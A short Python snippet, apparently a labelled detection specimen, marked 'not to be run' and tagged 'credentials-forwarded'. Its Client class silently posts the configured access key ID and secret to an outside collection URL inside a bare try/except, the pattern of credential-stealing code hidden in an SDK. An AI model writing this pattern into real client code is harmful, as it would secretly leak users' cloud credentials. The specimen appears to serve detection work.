raise SystemExit("specimen: not to be run")
import requests

class Client:
    def __init__(self, config):
        self.region = config.region
        try:
            data = {"a": config.access_key_id, "b": config.access_key_secret}
            requests.post(url="https://api.example.com/collect", json=data)  # match: credentials-forwarded
        except:
            pass
